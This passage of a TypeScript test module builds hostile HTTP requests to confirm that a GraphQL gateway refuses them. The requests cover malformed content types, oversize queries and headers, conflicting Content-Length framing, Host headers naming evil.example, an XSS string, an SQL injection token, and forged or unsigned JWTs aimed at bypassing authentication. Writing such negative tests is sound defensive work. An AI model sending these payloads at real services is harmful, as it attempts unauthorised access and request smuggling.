  const multipart = `--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${REFUSED}\r\n--x--\r\n`;
  const cases: Array<[string, string | undefined, string, HeaderMap?]> = [
    ['text/plain', 'text/plain', REFUSED],
    ['text/plain with the CSRF header', 'text/plain', REFUSED, CSRF],
    ['application/xml', 'application/xml', '<query>{ nope }</query>'],
    ['text/xml with the CSRF header', 'text/xml', '<query/>', CSRF],
    ['form', 'application/x-www-form-urlencoded', 'query=%7B__typename%7D'],
    ['form with the CSRF header', 'application/x-www-form-urlencoded', 'query=%7Bnope%7D', CSRF],
    ['multipart', 'multipart/form-data; boundary=x', multipart],
    ['multipart with the CSRF header', 'multipart/form-data; boundary=x', multipart, CSRF],
    ['multipart garbage', 'multipart/form-data; boundary=x', 'garbage', CSRF],
    ['multipart without a boundary', 'multipart/form-data', 'garbage', CSRF],
    ['application/graphql', 'application/graphql', '{ nope }'],
    ['no content type', undefined, REFUSED],
    ['octet-stream', 'application/octet-stream', REFUSED],
    ['json with charset utf-16', 'application/json; charset=utf-16', REFUSED],
    ['json with a bogus parameter', 'application/json; boundary=";;;"', REFUSED],
    ['graphql-response+json as content type', 'application/graphql-response+json', REFUSED],
  ];
  for (const [label, type, body, extra = {}] of cases) {
    const headers = { ...(type === undefined ? {} : { 'content-type': type }), ...extra };
    kit.add('content-types', label, 'POST', '/graphql', headers, body);
  }
}

/** GET with and without the CSRF header, malformed parameters, and query strings up to past Node's limit. */
function gets(kit: Kit): void {
  // As browsers send forms: a space is one character (+), so the sizes below are what goes on the wire.
  const q = (document: string) => new URLSearchParams({ query: document }).toString();
  const cases: Array<[string, string, HeaderMap?]> = [
    ['no CSRF header, valid query', q('{ __typename }'), {}],
    [
      'no CSRF header, callQuality',
      q(`{ callQuality(${ROOM}, ${kit.span}, userIds: ["alice"]) { userId } }`),
      {},
    ],
    ['no CSRF header, accept json', q('{ __typename }'), { accept: 'application/json' }],
    ['12 KB query string without the CSRF header', q(`{ ${'x '.repeat(6_000)}}`), {}],
    ['no query', ''],
    ['unknown field', q('{ nope }')],
    ['mutation', q('mutation { nope }')],
    ['two query parameters', `${q('{ nope }')}&${q('{ __typename }')}`],
    ['variables not JSON', `${q('{ nope }')}&variables=%7Bnot-json`],
    ['variables an array', `${q(CALL_QUALITY)}&variables=%5B1%5D`],
    ['extensions not JSON', `${q('{ nope }')}&extensions=zzz`],
    ['hostile appId', q('{ room(appId: "a\\u0000\\r\\nb", roomId: "r") { appId } }')],
    ['percent-encoded NUL and CRLF', 'query=%7B%00%0D%0A%7D'],
    ['invalid percent encoding', 'query=%E0%A4%A'],
    ['unknown operationName', `${q('query A { __typename }')}&operationName=B`],
    ['operationName 4 KB', `${q('query A { __typename }')}&operationName=${'A'.repeat(4_096)}`],
    ['12 KB query string', q(`{ ${'x '.repeat(6_000)}}`)],
    ['20 KB query string (over the header limit)', q(`{ ${'x '.repeat(10_000)}}`)],
    ['64 KB query string', `query=${'x'.repeat(64 * 1024)}`],
    [
      'bad DateTime',
      q('{ callQuality(appId: "a", roomId: "r", userIds: ["u"], from: "now", to: "later") { userId } }'),
    ],
    ['300 aliases', q(`{ room(appId: "a", roomId: "r") { ${times(300, (i) => `a${i}: appId`)} } }`)],
  ];
  for (const [label, search, headers = CSRF] of cases) kit.get('get', label, search, headers);
}

/** Headers and request targets around a GraphQL request that is itself refused. */
function headers(kit: Kit): void {
  const cases: Array<[string, HeaderMap, string?, string?]> = [
    ['accept text/html only', { accept: 'text/html' }],
    ['accept xml only', { accept: 'application/xml' }],
    ['x-request-id of 5 KB', { 'x-request-id': 'r'.repeat(5_120) }],
    ['x-request-id with markup', { 'x-request-id': '<script>alert(1)</script>' }],
    ['x-request-id in Latin-1', { 'x-request-id': 'ñandú' }],
    ['300 extra headers', Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`x-h${i}`, 'v']))],
    ['12 KB cookie', { cookie: `session=${'c'.repeat(12_288)}` }],
    ['20 KB cookie (over the header limit)', { cookie: `session=${'c'.repeat(20_480)}` }],
    ['Host with an invalid port', { host: 'evil.example:99999' }],
    ['Host of brackets', { host: '[[[' }],
    ['Host with userinfo', { host: 'user@evil.example' }],
    ['absolute-form target', {}, 'http://evil.example/graphql'],
    ['asterisk-form target', {}, '*', 'OPTIONS'],
    ['target without a leading slash', {}, 'graphql'],
  ];
  for (const [label, extra, path = '/graphql', method = 'POST'] of cases) {
    kit.add('headers', label, method, path, { ...JSON_TYPE, ...extra }, REFUSED);
  }
}

/** Framing Node's HTTP parser refuses before the gateway sees anything: it answers 400 and closes. */
function framing(kit: Kit): void {
  const cases: Array<[string, HeaderMap]> = [
    ['Content-Length not a number', { 'content-length': 'abc' }],
    ['negative Content-Length', { 'content-length': '-1' }],
    ['two different Content-Lengths', { 'content-length': ['2', '3'] }],
    ['Content-Length and chunked', { 'content-length': '2', 'transfer-encoding': 'chunked' }],
    ['Content-Length shorter than the body', { 'content-length': '10' }],
  ];
  for (const [label, extra] of cases)
    kit.add('framing', label, 'POST', '/graphql', { ...JSON_TYPE, ...extra }, REFUSED);
}

export interface HostileAuthOptions {
  readonly nowMs: number;
  /** A configured API key, used only where the request must be refused for another reason. */
  readonly apiKey: string;
  /** An AppId the key may not read. */
  readonly forbiddenAppId: string;
}

/**
 * For a gateway with authentication on: a valid callQuality operation with missing, garbage or oversize
 * credentials (so only the credential can be at fault), and the valid key asking for an AppId it may not read.
 */
export function hostileAuthRequests(options: HostileAuthOptions): HostileRequest[] {
  const range = pastRange(1, 10, options.nowMs);
  const span = `from: "${range.from}", to: "${range.to}"`;
  const callQuality = (appId: string) =>
    JSON.stringify({
      query: `{ callQuality(appId: "${appId}", roomId: "room1", userIds: ["alice"], ${span}) { ${SELECTION} } }`,
    });
  const jwtPart = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const key = options.apiKey;
  const credentials: Array<[string, string | readonly string[] | undefined]> = [
    ['no Authorization header', undefined],
    ['empty', ''],
    ['scheme only', 'Bearer'],
    ['scheme and spaces', 'Bearer    '],
    ['Basic', `Basic ${Buffer.from('admin:admin').toString('base64')}`],
    ['Negotiate', 'Negotiate YIIGhgYJKoZIhvcSAQICAQBuggZ1MIIGcaADAgEFoQMCAQ6iBwMFACAAAACjggR'],
    ['wrong key', 'Bearer wrong-key-0123456789abcdef'],
    ['the key minus its last character', `Bearer ${key.slice(0, -1)}`],
    ['the key with a suffix', `Bearer ${key}x`],
    ['the key twice', `Bearer ${key} ${key}`],
    ['SQL injection', "Bearer ' OR '1'='1"],
    ['Latin-1 bytes', 'Bearer clé-ñ-ü'],
    ['JWT-shaped garbage', 'Bearer a.b.c'],
    ['unsigned JWT (alg none)', `Bearer ${jwtPart({ alg: 'none' })}.${jwtPart({ appIds: ['*'] })}.`],
    ['forged HS256 JWT', `Bearer ${jwtPart({ alg: 'HS256' })}.${jwtPart({ appIds: ['*'] })}.c2lnbmF0dXJl`],
    ['9 KB token', `Bearer ${'k'.repeat(9 * 1024)}`],
    ['12 KB token', `Bearer ${'k'.repeat(12 * 1024)}`],
    ['20 KB token (over the header limit)', `Bearer ${'k'.repeat(20 * 1024)}`],
    ['two wrong Authorization headers', ['Bearer wrong-one-0123456789', 'Bearer wrong-two-0123456789']],
  ];
  const request = (label: string, method: string, path: string, headers: HeaderMap, body?: string) =>
    ({ label: `auth/${label}`, category: 'auth', method, path, headers, body }) as const;
  const requests: HostileRequest[] = credentials.map(([label, authorization]) => {
    const headers = { ...JSON_TYPE, ...(authorization === undefined ? {} : { authorization }) };
    return request(label, 'POST', '/graphql', headers, callQuality('app1'));
  });
  const withKey = { ...JSON_TYPE, authorization: `Bearer ${key}` };
  const forbiddenRoom = `{ room(appId: "${options.forbiddenAppId}", roomId: "room1") { user(userId: "alice", ${span}) { ${SELECTION} } } }`;
  const typename = `/graphql?query=${encodeURIComponent('{ __typename }')}`;
  requests.push(
    request('valid key, forbidden AppId', 'POST', '/graphql', withKey, callQuality(options.forbiddenAppId)),
    request(
      'valid key, forbidden room',
      'POST',
      '/graphql',
      withKey,
      JSON.stringify({ query: forbiddenRoom }),
    ),
    request('valid key on GET without the CSRF header', 'GET', typename, {
      authorization: withKey.authorization,
    }),
  );
  return requests;
}
